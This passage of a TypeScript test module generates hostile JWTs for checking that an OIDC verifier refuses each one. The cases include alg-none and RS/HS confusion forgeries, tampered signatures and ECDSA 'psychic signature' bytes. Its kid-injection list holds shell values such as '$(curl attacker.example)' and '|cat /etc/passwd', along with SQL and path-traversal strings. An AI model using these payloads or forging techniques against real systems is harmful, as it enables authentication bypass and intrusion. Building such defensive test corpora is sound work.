/**
 * The hostile token corpus (issue 3, "Prove"): bearer JWTs an attacker or a broken issuer could
 * present, each with the one refusal the verifier must give. Built systematically from the
 * attacks in RFC 8725 (JWT BCP) §2 and the JWS/JWT rules of RFC 7515 and RFC 7519: unsigned
 * and symmetric-algorithm tokens, RS/HS key confusion, wrong and unknown keys, kid injection,
 * keys embedded in or pointed at by the header, claim faults (each for RS256, ES256 and EdDSA),
 * tampering, structure and encoding faults, duplicate JSON members, oversize, and signature
 * encodings that broke ECDSA verifiers (CVE-2022-21449).
 *
 * Deterministic in its case list: the same settings give the same names and expectations in
 * the same order (keys, signatures and times differ between runs). Time-bound cases keep a
 * margin of minutes, so the corpus stays valid while a suite runs against the system clock.
 */
import { asymmetricJwsAlgorithms } from '../../shared/jws-algorithms.js';
import type { KeyObject } from 'node:crypto';
import type { OidcRefusal, OidcVerifierSettings } from '../oidc-verifier.js';
import { attackerKeyPair, signCompact, signatureOf, testIssuerAlgorithms } from './test-issuer.js';
import type { CompactSigner, TestIssuer, TestIssuerAlgorithm } from './test-issuer.js';

export interface HostileToken {
  /** Unique, stable: `category/detail[/alg]`. */
  name: string;
  token: string;
  /** The reason code the verifier must answer with. */
  expect: OidcRefusal;
}

export interface HostileTokenOptions {
  /** The instant tokens are minted around (default: now). The verifier's clock should be at or shortly after it. */
  now?: Date;
}

type Json = Record<string, unknown>;

/** Margin for "in the future" cases, so a slow suite does not see them come true. */
const FUTURE_MARGIN_SECONDS = 600;
const ALL_ASYMMETRIC = asymmetricJwsAlgorithms;
/** P-256 group order n (SEC 2 §2.4.2). */
const P256_ORDER = Buffer.from('ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551', 'hex');
/** Ed25519 group order L (RFC 8032 §5.1). */
const ED25519_ORDER = 2n ** 252n + 27742317777372353535851937790883648493n;
const BASE64URL_ALPHABET = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';

export async function hostileTokens(issuer: TestIssuer, settings: OidcVerifierSettings, options: HostileTokenOptions = {}): Promise<HostileToken[]> {
  const missing = testIssuerAlgorithms.filter((a) => !settings.algorithms.includes(a));
  if (missing.length > 0) throw new Error(`hostileTokens needs ${testIssuerAlgorithms.join(', ')} allowed by the settings`);

  const cases: HostileToken[] = [];
  const names = new Set<string>();
  const add = (name: string, token: string, expect: OidcRefusal): void => {
    if (names.has(name)) throw new Error(`duplicate hostile case name ${name}`);
    names.add(name);
    // The size cap comes first in the verifier: a case that ends up too large for these settings is refused as such.
    cases.push({ name, token, expect: Buffer.byteLength(token, 'utf8') > settings.maxTokenBytes ? 'auth.token_too_large' : expect });
  };

  const t = Math.floor((options.now ?? new Date()).getTime() / 1000);
  const skew = settings.clockSkewSeconds;
  const ours = typeof settings.audience === 'string' ? settings.audience : (settings.audience[0] ?? 'ward');
  const typ = settings.requiredTyp;
  /** jose compares typ case-insensitively, with or without `application/` (RFC 7515 §4.1.9). */
  const typIsNot = (other: string) => typ !== undefined && typ.toLowerCase().replace(/^application\//, '') !== other;
  const adminRole = Object.keys(settings.roleMap).find((v) => settings.roleMap[v]?.includes('admin')) ?? 'admin';

  const claims = (overrides: Json = {}, drop: readonly string[] = []): Json => {
    const c: Json = { ...genuineClaims(settings, t), ...overrides };
    for (const k of drop) delete c[k];
    return c;
  };
  const header = (alg: unknown, kid: unknown, extra: Json = {}): Json => genuineHeader(settings, alg, kid, extra);
  const key = (alg: TestIssuerAlgorithm) => issuer.keys[alg];
  const real = (alg: TestIssuerAlgorithm): CompactSigner => ({ alg, key: key(alg).privateKey });
  /** Signed correctly by the issuer's own key: only the named fault is wrong. */
  const signed = (alg: TestIssuerAlgorithm, payload: Json | string = claims(), extraHeader: Json = {}) => signCompact(header(alg, key(alg).kid, extraHeader), payload, real(alg));
  const segmentsOf = (token: string): [string, string, string] => {
    const [h = '', p = '', s = ''] = token.split('.');
    return [h, p, s];
  };
  const b64 = (text: string | Buffer) => (typeof text === 'string' ? Buffer.from(text, 'utf8') : text).toString('base64url');
  const attackers = new Map<string, { privateKey: KeyObject; publicKey: KeyObject }>();
  const attacker = (alg: string) => {
    const kind = alg.startsWith('RS') || alg.startsWith('PS') ? 'rsa' : alg;
    let pair = attackers.get(kind);
    if (pair === undefined) {
      pair = attackerKeyPair(alg);
      attackers.set(kind, pair);
    }
    return pair;
  };

  // --- Unsigned tokens: alg "none" in any spelling (RFC 8725 §2.1, §3.1). ---
  const rsToken = signed('RS256');
  for (const spelling of ['none', 'None', 'NONE', 'nOnE']) {
    const h = b64(JSON.stringify(header(spelling, key('RS256').kid)));
    const p = b64(JSON.stringify(claims()));
    add(`alg-none/${spelling}/empty-signature`, `${h}.${p}.`, 'auth.token_algorithm_refused');
    add(`alg-none/${spelling}/copied-signature`, `${h}.${p}.${segmentsOf(rsToken)[2]}`, 'auth.token_algorithm_refused');
    add(`alg-none/${spelling}/garbage-signature`, `${h}.${p}.${b64('not a signature')}`, 'auth.token_algorithm_refused');
  }
  add('alg-none/no-kid/escalated', signCompact(header('none', null), claims(roleClaimOverride(settings, adminRole)), null), 'auth.token_algorithm_refused');

  // --- RS/HS confusion: HMAC keyed with the issuer's public key material (RFC 8725 §2.1). ---
  const rsaJwk = key('RS256').publicJwk;
  const secrets: [string, TestIssuerAlgorithm, Buffer][] = [
    ['rsa-spki-pem', 'RS256', Buffer.from(key('RS256').publicKey.export({ type: 'spki', format: 'pem' }))],
    ['rsa-pkcs1-pem', 'RS256', Buffer.from(key('RS256').publicKey.export({ type: 'pkcs1', format: 'pem' }))],
    ['rsa-spki-der', 'RS256', key('RS256').publicKey.export({ type: 'spki', format: 'der' })],
    ['rsa-jwk-n-bytes', 'RS256', Buffer.from(String(rsaJwk.n), 'base64url')],
    ['rsa-jwk-json', 'RS256', Buffer.from(JSON.stringify(rsaJwk))],
    ['ec-spki-pem', 'ES256', Buffer.from(key('ES256').publicKey.export({ type: 'spki', format: 'pem' }))],
    ['ed-spki-pem', 'EdDSA', Buffer.from(key('EdDSA').publicKey.export({ type: 'spki', format: 'pem' }))],
  ];
  for (const hs of ['HS256', 'HS384', 'HS512']) {
    for (const [label, owner, secret] of secrets) {
      add(`rs-hs-confusion/${hs}/${label}`, signCompact(header(hs, key(owner).kid), claims(), { alg: hs, key: secret }), 'auth.token_algorithm_refused');
    }
  }

  // --- Algorithms outside the allow-list, validly signed (RFC 8725 §3.1: the verifier decides, not the token). ---
  for (const alg of ALL_ASYMMETRIC.filter((a) => !settings.algorithms.includes(a))) {
    const owner: TestIssuerAlgorithm = alg.startsWith('ES') ? 'ES256' : alg === 'EdDSA' ? 'EdDSA' : 'RS256';
    const signer: CompactSigner = alg === 'ES384' || alg === 'ES512' ? { alg, key: attacker(alg).privateKey } : { alg, key: key(owner).privateKey };
    add(`alg-refused/${alg}`, signCompact(header(alg, key(owner).kid), claims(), signer), 'auth.token_algorithm_refused');
  }
  const respelled: [string, TestIssuerAlgorithm][] = [
    ['rs256', 'RS256'],
    ['Rs256', 'RS256'],
    ['RS256 ', 'RS256'],
    [' RS256', 'RS256'],
    ['RS256\u0000', 'RS256'],
    ['es256', 'ES256'],
    ['EDDSA', 'EdDSA'],
    ['eddsa', 'EdDSA'],
    ['Ed25519', 'EdDSA'],
  ];
  for (const [spelling, signer] of respelled) {
    add(`alg-refused/spelling-${JSON.stringify(spelling)}`, signCompact(header(spelling, key(signer).kid), claims(), { alg: signer, key: key(signer).privateKey }), 'auth.token_algorithm_refused');
  }
  for (const foreign of ['ES256K', 'RSA-OAEP', 'RSA-OAEP-256', 'dir', 'A256KW', 'ML-DSA-44']) {
    add(`alg-refused/foreign-${foreign}`, signCompact(header(foreign, key('RS256').kid), claims(), real('RS256')), 'auth.token_algorithm_refused');
  }

  // --- Wrong keys and unknown key ids. ---
  for (const alg of testIssuerAlgorithms) {
    const forged: CompactSigner = { alg, key: attacker(alg).privateKey };
    add(`wrong-key/real-kid/${alg}`, signCompact(header(alg, key(alg).kid), claims(), forged), 'auth.token_bad_signature');
    add(`wrong-key/no-kid/${alg}`, signCompact(header(alg, null), claims(), forged), 'auth.token_bad_signature');
    add(`wrong-key/attacker-kid/${alg}`, signCompact(header(alg, 'attacker-key-1'), claims(), forged), 'auth.token_unknown_key');
    for (const other of testIssuerAlgorithms.filter((o) => o !== alg)) {
      add(`kid-of-other-key-type/${alg}-with-${other}-kid`, signCompact(header(alg, key(other).kid), claims(), real(alg)), 'auth.token_unknown_key');
    }
    const kid = key(alg).kid;
    const unknownKids: [string, string][] = [
      ['made-up', 'ward-test-unknown-kid'],
      ['suffixed', `${kid}x`],
      ['case-changed', kid.toUpperCase() === kid ? kid.toLowerCase() : kid.toUpperCase()],
      ['truncated', kid.slice(0, -1)],
    ];
    for (const [label, value] of unknownKids) add(`unknown-kid/${label}/${alg}`, signCompact(header(alg, value), claims(), real(alg)), 'auth.token_unknown_key');
  }

  // --- kid injection: a kid is a name to compare, never a path, a query or a command. ---
  const injectedKids: [string, unknown][] = [
    ['path-traversal', '../../../../../../dev/null'],
    ['path-traversal-etc-passwd', '../../etc/passwd'],
    ['path-traversal-embedded', `${key('RS256').kid}/../../keys/admin`],
    ['sql-tautology', "' OR '1'='1"],
    ['sql-drop', 'x; DROP TABLE keys; --'],
    ['nosql-operator', '{"$ne":null}'],
    ['null-byte', `${key('RS256').kid}\u0000`],
    ['crlf', 'kid\r\nX-Injected: 1'],
    ['shell-substitution', '$(curl attacker.example)'],
    ['shell-pipe', '|cat /etc/passwd'],
    ['html', '<script>alert(1)</script>'],
    ['url', 'https://attacker.example/jwks.json'],
    ['percent-encoded', '%2e%2e%2fkeys'],
    ['too-long-129', 'a'.repeat(129)],
    ['too-long-2000', 'k'.repeat(2000)],
    ['empty', ''],
    ['space', ' '],
    ['non-ascii', 'ķid-ŝigning'],
    ['rtl-override', 'kid\u202etxt.exe'],
    ['number', 42],
    ['zero', 0],
    ['object', {}],
    ['object-operator', { $gt: '' }],
    ['array', [key('RS256').kid]],
    ['empty-array', []],
    ['null', null],
    ['boolean', true],
  ];
  for (const [label, value] of injectedKids) {
    add(`kid-injection/${label}`, signCompact(header('RS256', null, { kid: value }), claims(), real('RS256')), 'auth.token_header_refused');
  }

  // --- Keys carried in or pointed at by the header (RFC 8725 §3.10; RFC 7515 §4.1.2-4.1.6). ---
  for (const alg of testIssuerAlgorithms) {
    const forged: CompactSigner = { alg, key: attacker(alg).privateKey };
    const attackerJwk = attacker(alg).publicKey.export({ format: 'jwk' });
    const embedded: [string, Json, CompactSigner][] = [
      ['jwk-attacker-key', header(alg, null, { jwk: attackerJwk }), forged],
      ['jwk-attacker-key-real-kid', header(alg, key(alg).kid, { jwk: attackerJwk }), forged],
      ['jwk-matching-real-key', header(alg, key(alg).kid, { jwk: key(alg).publicJwk }), real(alg)],
      ['jku-attacker', header(alg, 'attacker-key-1', { jku: 'https://attacker.example/jwks.json' }), forged],
      ['jku-own-jwks-uri', header(alg, key(alg).kid, { jku: settings.jwksUri }), real(alg)],
      ['x5u-attacker', header(alg, 'attacker-key-1', { x5u: 'https://attacker.example/cert.pem' }), forged],
      ['x5c-chain', header(alg, null, { x5c: [Buffer.from('not really a certificate').toString('base64')] }), forged],
    ];
    for (const [label, h, signer] of embedded) add(`embedded-key/${label}/${alg}`, signCompact(h, claims(), signer), 'auth.token_header_refused');
  }

  // --- crit: extensions we do not implement must not be half-processed (RFC 7515 §4.1.11). ---
  const crits: [string, Json][] = [
    ['exp', { crit: ['exp'] }],
    ['b64-false', { crit: ['b64'], b64: false }],
    ['unknown-extension', { crit: ['x-ward'], 'x-ward': 1 }],
    ['empty-list', { crit: [] }],
    ['not-a-list', { crit: 'b64' }],
    ['self', { crit: ['crit'] }],
  ];
  for (const [label, extra] of crits) add(`crit/${label}`, signed('RS256', claims(), extra), 'auth.token_header_refused');

  // --- Claim faults, validly signed, for each algorithm (RFC 7519 §4.1, OIDC Core §2, RFC 8176). ---
  const exp = t + 3600;
  const faults: { name: string; payload: () => Json | string; header?: Json; expect: OidcRefusal; when?: boolean }[] = [
    { name: 'expired-1s-beyond-skew', payload: () => claims({ exp: t - skew - 1 }), expect: 'auth.token_expired' },
    { name: 'expired-at-skew-edge', payload: () => claims({ exp: t - skew }), expect: 'auth.token_expired' },
    { name: 'expired-1h', payload: () => claims({ exp: t - skew - 3600, iat: t - 7200 }), expect: 'auth.token_expired' },
    { name: 'expired-1y', payload: () => claims({ exp: t - 31_557_600, iat: t - 31_560_000 }), expect: 'auth.token_expired' },
    { name: 'nbf-beyond-skew', payload: () => claims({ nbf: t + skew + FUTURE_MARGIN_SECONDS }), expect: 'auth.token_not_yet_valid' },
    { name: 'nbf-1y-ahead', payload: () => claims({ nbf: t + 31_557_600, exp: t + 31_561_200 }), expect: 'auth.token_not_yet_valid' },
    { name: 'iat-beyond-skew', payload: () => claims({ iat: t + skew + FUTURE_MARGIN_SECONDS }), expect: 'auth.token_not_yet_valid' },
    { name: 'iat-1y-ahead', payload: () => claims({ iat: t + 31_557_600 }), expect: 'auth.token_not_yet_valid' },
    { name: 'exp-missing', payload: () => claims({}, ['exp']), expect: 'auth.token_claims_invalid' },
    { name: 'iat-missing', payload: () => claims({}, ['iat']), expect: 'auth.token_claims_invalid' },
    { name: 'sub-missing', payload: () => claims({}, ['sub']), expect: 'auth.token_claims_invalid' },
    { name: 'exp-string', payload: () => claims({ exp: String(exp) }), expect: 'auth.token_claims_invalid' },
    { name: 'exp-null', payload: () => claims({ exp: null }), expect: 'auth.token_claims_invalid' },
    { name: 'exp-array', payload: () => claims({ exp: [exp] }), expect: 'auth.token_claims_invalid' },
    { name: 'exp-infinite', payload: () => JSON.stringify(claims()).replace(`"exp":${exp}`, '"exp":1e400'), expect: 'auth.token_claims_invalid' },
    { name: 'iat-string', payload: () => claims({ iat: String(t) }), expect: 'auth.token_claims_invalid' },
    { name: 'nbf-string', payload: () => claims({ nbf: String(t) }), expect: 'auth.token_claims_invalid' },
    { name: 'sub-empty', payload: () => claims({ sub: '' }), expect: 'auth.token_claims_invalid' },
    { name: 'sub-number', payload: () => claims({ sub: 1001 }), expect: 'auth.token_claims_invalid' },
    { name: 'sub-object', payload: () => claims({ sub: { id: 'alice' } }), expect: 'auth.token_claims_invalid' },
    { name: 'sub-over-255', payload: () => claims({ sub: 's'.repeat(256) }), expect: 'auth.token_claims_invalid' },
    { name: 'iss-missing', payload: () => claims({}, ['iss']), expect: 'auth.token_wrong_issuer' },
    { name: 'iss-case-changed', payload: () => claims({ iss: settings.issuer.toUpperCase() }), expect: 'auth.token_wrong_issuer' },
    { name: 'iss-trailing-slash', payload: () => claims({ iss: `${settings.issuer}/` }), expect: 'auth.token_wrong_issuer' },
    { name: 'iss-scheme-flipped', payload: () => claims({ iss: flipScheme(settings.issuer) }), expect: 'auth.token_wrong_issuer' },
    { name: 'iss-lookalike-host', payload: () => claims({ iss: lookalikeHost(settings.issuer) }), expect: 'auth.token_wrong_issuer' },
    { name: 'iss-path-suffix', payload: () => claims({ iss: `${settings.issuer}/../evil` }), expect: 'auth.token_wrong_issuer' },
    { name: 'iss-trailing-space', payload: () => claims({ iss: `${settings.issuer} ` }), expect: 'auth.token_wrong_issuer' },
    { name: 'iss-array', payload: () => claims({ iss: [settings.issuer] }), expect: 'auth.token_wrong_issuer' },
    { name: 'iss-number', payload: () => claims({ iss: 1 }), expect: 'auth.token_wrong_issuer' },
    { name: 'aud-missing', payload: () => claims({}, ['aud']), expect: 'auth.token_wrong_audience' },
    { name: 'aud-other', payload: () => claims({ aud: 'another-app' }), expect: 'auth.token_wrong_audience' },
    { name: 'aud-array-without-ours', payload: () => claims({ aud: ['another-app', 'third-app'] }), expect: 'auth.token_wrong_audience' },
    { name: 'aud-empty-array', payload: () => claims({ aud: [] }), expect: 'auth.token_wrong_audience' },
    { name: 'aud-case-changed', payload: () => claims({ aud: ours.toUpperCase() === ours ? ours.toLowerCase() : ours.toUpperCase() }), expect: 'auth.token_wrong_audience' },
    { name: 'aud-suffixed', payload: () => claims({ aud: `${ours}-evil` }), expect: 'auth.token_wrong_audience' },
    { name: 'aud-nested-array', payload: () => claims({ aud: [[ours]] }), expect: 'auth.token_wrong_audience' },
    { name: 'aud-number', payload: () => claims({ aud: 7 }), expect: 'auth.token_wrong_audience' },
    { name: 'aud-empty-string', payload: () => claims({ aud: '' }), expect: 'auth.token_wrong_audience' },
    { name: 'amr-missing', payload: () => claims({}, ['amr']), expect: 'auth.mfa_required', when: settings.requireMfa },
    { name: 'amr-password-only', payload: () => claims({ amr: ['pwd'] }), expect: 'auth.mfa_required', when: settings.requireMfa },
    { name: 'amr-not-a-list', payload: () => claims({ amr: 'mfa' }), expect: 'auth.mfa_required', when: settings.requireMfa },
    { name: 'amr-empty', payload: () => claims({ amr: [] }), expect: 'auth.mfa_required', when: settings.requireMfa },
    { name: 'amr-case-changed', payload: () => claims({ amr: ['PWD', 'MFA'] }), expect: 'auth.mfa_required', when: settings.requireMfa },
    { name: 'typ-jwt', payload: () => claims(), header: { typ: 'JWT' }, expect: 'auth.token_wrong_type', when: typIsNot('jwt') },
    { name: 'typ-missing', payload: () => claims(), header: { typ: undefined }, expect: 'auth.token_wrong_type', when: typ !== undefined },
    { name: 'typ-id-token', payload: () => claims(), header: { typ: 'id_token+jwt' }, expect: 'auth.token_wrong_type', when: typIsNot('id_token+jwt') },
    { name: 'role-claim-object', payload: () => claims(roleClaimOverride(settings, { [adminRole]: true })), expect: 'auth.token_claims_invalid' },
    { name: 'role-claim-numbers', payload: () => claims(roleClaimOverride(settings, [1, 2])), expect: 'auth.token_claims_invalid' },
  ];
  for (const fault of faults) {
    if (fault.when === false) continue;
    for (const alg of testIssuerAlgorithms) add(`claims/${fault.name}/${alg}`, signed(alg, fault.payload(), fault.header), fault.expect);
  }

  // --- Tampering with a genuine token (RFC 7515 §5.2: any change breaks the signature). ---
  for (const alg of testIssuerAlgorithms) {
    const genuine = signed(alg);
    const [h, p, s] = segmentsOf(genuine);
    const sig = Buffer.from(s, 'base64url');
    // The next algorithm in the cycle: the swapped header and the borrowed signature then never coincide.
    const otherAlg = testIssuerAlgorithms[(testIssuerAlgorithms.indexOf(alg) + 1) % testIssuerAlgorithms.length] ?? 'RS256';
    const passwordOnly = segmentsOf(signed(alg, claims({ amr: ['pwd'] })));
    const flip = (bytes: Buffer, index: number) => {
      const copy = Buffer.from(bytes);
      copy[index] = (copy[index] ?? 0) ^ 0x01;
      return copy;
    };
    const tampered: [string, string][] = [
      ['payload-role-escalation', `${h}.${b64(JSON.stringify(claims(roleClaimOverride(settings, [adminRole]))))}.${s}`],
      ['payload-sub-swapped', `${h}.${b64(JSON.stringify(claims({ sub: 'bob' })))}.${s}`],
      ['payload-exp-extended', `${h}.${b64(JSON.stringify(claims({ exp: t + 31_557_600 })))}.${s}`],
      ['payload-aud-swapped', `${h}.${b64(JSON.stringify(claims({ aud: 'another-app' })))}.${s}`],
      ['payload-mfa-added', `${passwordOnly[0]}.${b64(JSON.stringify(claims({ amr: ['pwd', 'mfa'] })))}.${passwordOnly[2]}`],
      ['header-parameter-added', `${b64(JSON.stringify(header(alg, key(alg).kid, { 'x-ward': 'tampered' })))}.${p}.${s}`],
      ['header-alg-and-kid-swapped', `${b64(JSON.stringify(header(otherAlg, key(otherAlg).kid)))}.${p}.${s}`],
      ['signature-stripped', `${h}.${p}.`],
      ['signature-truncated-half', `${h}.${p}.${b64(sig.subarray(0, sig.length / 2))}`],
      ['signature-truncated-1-byte', `${h}.${p}.${b64(sig.subarray(0, -1))}`],
      ['signature-extended-1-byte', `${h}.${p}.${b64(Buffer.concat([sig, Buffer.from([0])]))}`],
      ['signature-first-bit-flipped', `${h}.${p}.${b64(flip(sig, 0))}`],
      ['signature-last-bit-flipped', `${h}.${p}.${b64(flip(sig, sig.length - 1))}`],
      ['signature-from-other-token', `${h}.${p}.${segmentsOf(signed(alg, claims({ sub: 'bob' })))[2]}`],
      ['signature-from-other-algorithm', `${h}.${p}.${segmentsOf(signed(otherAlg))[2]}`],
    ];
    // For ES256 an all-zero signature is the psychic signature, listed with the ECDSA cases below.
    if (alg !== 'ES256') tampered.push(['signature-zeroed', `${h}.${p}.${b64(Buffer.alloc(sig.length))}`]);
    for (const [label, token] of tampered) add(`tampered/${label}/${alg}`, token, 'auth.token_bad_signature');
  }

  // --- Structure (RFC 7515 §7.1: exactly three segments). ---
  const [h, p, s] = segmentsOf(rsToken);
  const structure: [string, string][] = [
    ['empty', ''],
    ['single-dot', '.'],
    ['two-dots', '..'],
    ['one-segment', h],
    ['two-segments', `${h}.${p}`],
    ['four-segments', `${rsToken}.${s}`],
    ['trailing-dot', `${rsToken}.`],
    ['leading-dot', `.${rsToken}`],
    ['jwe-shaped-five-segments', `${b64(JSON.stringify({ alg: 'RSA-OAEP', enc: 'A256GCM' }))}.${b64('key')}.${b64('iv')}.${p}.${b64('tag')}`],
    ['two-tokens-joined', `${rsToken}.${rsToken}`],
    ['header-empty', `.${p}.${s}`],
    ['payload-empty', `${h}..${s}`],
    ['header-payload-swapped', `${p}.${h}.${s}`],
    ['payload-signature-swapped', `${h}.${s}.${p}`],
    ['header-signature-swapped', `${s}.${p}.${h}`],
    ['bearer-prefixed', `Bearer ${rsToken}`],
    ['quoted', `"${rsToken}"`],
    ['url-encoded-dots', rsToken.replace(/\./g, '%2E')],
  ];
  for (const [label, token] of structure) add(`structure/${label}`, token, 'auth.token_malformed');

  // --- Encoding: only canonical unpadded base64url (RFC 7515 §2, RFC 4648 §5, §3.5). ---
  const stdAlphabet = (segment: string) => {
    const std = Buffer.from(segment, 'base64url').toString('base64').replace(/=+$/, '');
    return std === segment ? `+${segment.slice(1)}` : std;
  };
  const padded = (segment: string) => `${segment}${'='.repeat((4 - (segment.length % 4)) % 4 || 4)}`;
  const insert = (segment: string, at: number, text: string) => `${segment.slice(0, at)}${text}${segment.slice(at)}`;
  const encoding: [string, string][] = [
    ['header-padded', `${padded(h)}.${p}.${s}`],
    ['payload-padded', `${h}.${padded(p)}.${s}`],
    ['header-standard-alphabet', `${stdAlphabet(h)}.${p}.${s}`],
    ['payload-standard-alphabet', `${h}.${stdAlphabet(p)}.${s}`],
    ['signature-standard-alphabet', `${h}.${p}.${stdAlphabet(s)}`],
    ['header-space', `${insert(h, 8, ' ')}.${p}.${s}`],
    ['payload-newline', `${h}.${insert(p, 8, '\n')}.${s}`],
    ['signature-tab', `${h}.${p}.${insert(s, 8, '\t')}`],
    ['signature-crlf', `${h}.${p}.${insert(s, 20, '\r\n')}`],
    ['leading-space', ` ${rsToken}`],
    ['trailing-newline', `${rsToken}\n`],
    ['header-non-ascii', `${insert(h, 4, 'é')}.${p}.${s}`],
    ['payload-fullwidth', `${h}.${insert(p, 4, 'Ａ')}.${s}`],
    ['signature-zero-width-space', `${h}.${p}.${insert(s, 4, '\u200b')}`],
    ['signature-emoji', `${h}.${p}.${s}\u{1f600}`],
    ['signature-impossible-length', `${h}.${p}.${s}${'A'.repeat((1 - (s.length % 4) + 4) % 4 || 4)}`],
    ['percent-encoded-signature', `${h}.${p}.${s.replace(/-/g, '%2D').replace(/_/g, '%5F')}%3D`],
    ['header-invalid-utf8', `${b64(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(JSON.stringify(header('RS256', key('RS256').kid)))]))}.${p}.${s}`],
    ['header-utf8-bom', signCompact(`\ufeff${JSON.stringify(header('RS256', key('RS256').kid))}`, claims(), real('RS256'))],
    ['payload-utf8-bom', signCompact(header('RS256', key('RS256').kid), `\ufeff${JSON.stringify(claims())}`, real('RS256'))],
    ['payload-invalid-utf8', signCompactBytes(header('RS256', key('RS256').kid), Buffer.concat([Buffer.from('{"sub":"'), Buffer.from([0xc3, 0x28]), Buffer.from('"}')]), real('RS256'))],
  ];
  for (const [label, token] of encoding) add(`encoding/${label}`, token, 'auth.token_malformed');
  // Non-canonical and padded signatures decode to the very bytes that were signed: jose alone accepts them.
  for (const alg of testIssuerAlgorithms) {
    const [ah, ap, as] = segmentsOf(signed(alg));
    const last = as.at(-1) ?? 'A';
    add(`encoding/signature-non-canonical-trailing-bits/${alg}`, `${ah}.${ap}.${as.slice(0, -1)}${BASE64URL_ALPHABET[BASE64URL_ALPHABET.indexOf(last) + 1] ?? 'B'}`, 'auth.token_malformed');
    add(`encoding/signature-padded/${alg}`, `${ah}.${ap}.${padded(as)}`, 'auth.token_malformed');
  }

  // --- Header or claims that are not a JSON object (RFC 7515 §4, RFC 7519 §7.2 step 10). ---
  const rsKid = key('RS256').kid;
  const notObjects: [string, string | Json, string | Json][] = [
    ['header-not-json', 'RS256', claims()],
    ['header-json-array', JSON.stringify([header('RS256', rsKid)]), claims()],
    ['header-json-string', '"RS256"', claims()],
    ['header-json-number', '256', claims()],
    ['header-json-null', 'null', claims()],
    ['header-trailing-garbage', `${JSON.stringify(header('RS256', rsKid))}x`, claims()],
    ['header-with-comment', `{/* c */${JSON.stringify(header('RS256', rsKid)).slice(1)}`, claims()],
    ['header-empty-object', '{}', claims()],
    ['header-alg-number', header(256, rsKid), claims()],
    ['header-alg-null', header(null, rsKid), claims()],
    ['header-alg-array', header(['RS256'], rsKid), claims()],
    ['header-alg-empty', header('', rsKid), claims()],
    ['payload-not-json', header('RS256', rsKid), 'hello'],
    ['payload-json-array', header('RS256', rsKid), JSON.stringify([claims()])],
    ['payload-json-string', header('RS256', rsKid), JSON.stringify(JSON.stringify(claims()))],
    ['payload-json-number', header('RS256', rsKid), '42'],
    ['payload-json-null', header('RS256', rsKid), 'null'],
    ['payload-json-true', header('RS256', rsKid), 'true'],
    ['payload-trailing-comma', header('RS256', rsKid), `${JSON.stringify(claims()).slice(0, -1)},}`],
    ['payload-single-quotes', header('RS256', rsKid), JSON.stringify(claims()).replace(/"/g, "'")],
    ['payload-two-objects', header('RS256', rsKid), `${JSON.stringify(claims())}{}`],
  ];
  for (const [label, hdr, payload] of notObjects) add(`not-json-object/${label}`, signCompact(hdr, payload, real('RS256')), 'auth.token_malformed');

  // --- Duplicate member names: two parsers, two readings (RFC 7515 §5.2, RFC 8259 §4). ---
  const withMember = (obj: Json, member: string) => `${JSON.stringify(obj).slice(0, -1)},${member}}`;
  const baseHeader = header('RS256', rsKid);
  const duplicates: [string, string | Json, string | Json][] = [
    ['header-alg-then-none', withMember(baseHeader, '"alg":"none"'), claims()],
    ['header-none-then-alg', `{"alg":"none",${JSON.stringify(baseHeader).slice(1)}`, claims()],
    ['header-alg-escaped-name', withMember(baseHeader, '"\\u0061lg":"HS256"'), claims()],
    ['header-kid', withMember(baseHeader, '"kid":"attacker-key-1"'), claims()],
    ['header-typ', withMember(header('RS256', rsKid, { typ: 'JWT' }), '"typ":"JWT"'), claims()],
    ['payload-sub', baseHeader, withMember(claims(), '"sub":"admin"')],
    ['payload-sub-escaped-name', baseHeader, withMember(claims(), '"s\\u0075b":"admin"')],
    ['payload-iss', baseHeader, withMember(claims(), '"iss":"https://attacker.example"')],
    ['payload-aud', baseHeader, withMember(claims(), '"aud":"another-app"')],
    ['payload-exp', baseHeader, withMember(claims(), `"exp":${t + 31_557_600}`)],
    ['payload-amr', baseHeader, withMember(claims({ amr: ['pwd'] }), '"amr":["mfa"]')],
    ['payload-role-claim', baseHeader, withMember(claims(), `${JSON.stringify(settings.roleClaim[0] ?? 'roles')}:${JSON.stringify(topLevelRoleClaimValue(settings, [adminRole]))}`)],
    ['payload-nested-object', baseHeader, withMember(claims(), '"ext":{"tier":"basic","tier":"admin"}')],
  ];
  for (const [label, hdr, payload] of duplicates) add(`duplicate-member/${label}`, signCompact(hdr, payload, real('RS256')), 'auth.token_malformed');

  // --- Size: refused before any decoding. ---
  const max = settings.maxTokenBytes;
  const unpadded = signed('RS256', claims({ pad: '' })).length;
  let filler = Math.max(0, Math.floor(((max - unpadded) * 3) / 4) - 4);
  let justOver = signed('RS256', claims({ pad: 'x'.repeat(filler) }));
  while (justOver.length <= max) justOver = signed('RS256', claims({ pad: 'x'.repeat(++filler) }));
  add('oversized/just-over-limit', justOver, 'auth.token_too_large');
  add('oversized/double-limit', signed('RS256', claims({ pad: 'x'.repeat(max * 2) })), 'auth.token_too_large');
  add('oversized/one-mebibyte', signed('RS256', claims({ pad: 'x'.repeat(1 << 20) })), 'auth.token_too_large');
  add('oversized/alg-none', signCompact(header('none', null), claims({ pad: 'x'.repeat(max) }), null), 'auth.token_too_large');
  add('oversized/dots-only', '.'.repeat(max + 1), 'auth.token_too_large');
  add('oversized/multibyte-characters', `${rsToken}${'é'.repeat(Math.ceil((max - rsToken.length) / 2) + 1)}`.slice(0, max), 'auth.token_too_large');

  // --- Signature encodings that broke verifiers (CVE-2022-21449 "psychic signatures"; RFC 7518 §3.4 wants r || s). ---
  {
    const [eh, ep, es] = segmentsOf(signed('ES256'));
    const rs = Buffer.from(es, 'base64url');
    const r = rs.subarray(0, 32);
    const sPart = rs.subarray(32);
    const zero = Buffer.alloc(32);
    const ecdsa: [string, Buffer][] = [
      ['der-encoded', derSignature(r, sPart)],
      ['psychic-r-s-zero', Buffer.alloc(64)],
      ['psychic-r-s-zero-der', derSignature(zero, zero)],
      ['r-and-s-equal-group-order', Buffer.concat([P256_ORDER, P256_ORDER])],
      ['r-zero', Buffer.concat([zero, sPart])],
      ['s-zero', Buffer.concat([r, zero])],
      ['r-s-twice-128-bytes', Buffer.concat([rs, rs])],
    ];
    for (const [label, bytes] of ecdsa) add(`ecdsa-signature/${label}`, `${eh}.${ep}.${b64(bytes)}`, 'auth.token_bad_signature');
  }
  {
    const [dh, dp, ds] = segmentsOf(signed('EdDSA'));
    const sig = Buffer.from(ds, 'base64url');
